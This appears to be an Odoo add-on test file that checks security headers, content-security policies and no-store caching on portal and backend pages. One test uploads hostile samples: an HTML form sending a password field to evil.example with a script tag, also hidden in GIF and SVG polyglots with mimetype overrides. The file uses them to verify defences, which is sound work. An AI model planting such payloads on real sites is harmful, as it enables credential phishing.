from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import BrokersyncCommon


@tagged("post_install", "-at_install")
class TestHeaders(BrokersyncCommon, HttpCase):
    """What a browser is told to refuse, on every kind of page."""

    def policy(self, path):
        headers = self.url_open(path).headers
        self.assertEqual(headers["X-Content-Type-Options"], "nosniff")
        self.assertEqual(headers["Referrer-Policy"], "same-origin")
        rules = (rule.partition(" ") for rule in headers["Content-Security-Policy"].split("; "))
        return {name: sources for name, _space, sources in rules}

    def test_pages_load_from_and_are_framed_by_this_site_only(self):
        self.authenticate("test-a-1", "test-a-1")
        with mute_logger("odoo.http"):
            for path in "/my", "/my/firm", "/web/login?debug=0", "/no-such-page":
                with self.subTest(path):
                    policy = self.policy(path)
                    self.assertEqual(policy["default-src"], "'self'")
                    self.assertEqual(policy["frame-ancestors"], "'self'")
                    self.assertEqual(policy["object-src"], "'none'")
                    self.assertEqual(policy["base-uri"], "'self'")

    def test_pages_of_a_person_stay_in_no_cache(self):
        self.assertNotIn("no-store", self.url_open("/web/login").headers.get("Cache-Control", ""))
        self.authenticate("test-a-1", "test-a-1")
        for path in "/my", "/my/firm", "/my/tickets":
            self.assertIn("no-store", self.url_open(path).headers["Cache-Control"], path)
        self.authenticate("bs_broker", "bs_broker")
        self.assertIn("no-store", self.url_open("/odoo").headers["Cache-Control"])

    def test_the_backend_too(self):
        self.authenticate("bs_broker", "bs_broker")
        self.assertEqual(self.policy("/odoo")["frame-ancestors"], "'self'")

    def upload(self, name, content, mimetype):
        values = {"name": name, "mimetype": mimetype, "raw": content, "public": True}
        return f"/web/content/{self.env['ir.attachment'].create(values).id}"

    def test_an_uploaded_page_runs_nothing_and_asks_for_nothing(self):
        """Nor does a file that is a picture and a page at once, when the address calls it a page."""
        form = (
            b"<form action='https://evil.example'><input name='password'></form><script>1</script>"
        )
        for path in (
            self.upload("page.html", form, "text/html"),
            self.upload("photo.gif", b"GIF89a" + form, "image/gif") + "?mimetype=text/html",
            self.upload("photo.svg", b"<svg>" + form, "image/svg+xml")
            + "?mimetype=application/xhtml%2Bxml",
        ):
            with self.subTest(path):
                answer = self.url_open(path)
                self.assertEqual(answer.headers["Content-Type"].partition(";")[0], "text/plain")
                policy = answer.headers["Content-Security-Policy"].split("; ")
                self.assertLess(
                    {"default-src 'none'", "form-action 'none'", "sandbox"}, set(policy)
                )

    def test_pictures_and_papers_are_shown_as_what_they_are(self):
        picture = self.url_open(self.upload("photo.gif", b"GIF89a", "image/gif"))
        self.assertEqual(picture.headers["Content-Type"], "image/gif")
        paper = self.url_open(self.upload("paper.pdf", b"%PDF-1.4", "application/pdf"))
        self.assertEqual(paper.headers["Content-Type"], "application/pdf")
        self.assertNotIn("sandbox", paper.headers["Content-Security-Policy"])
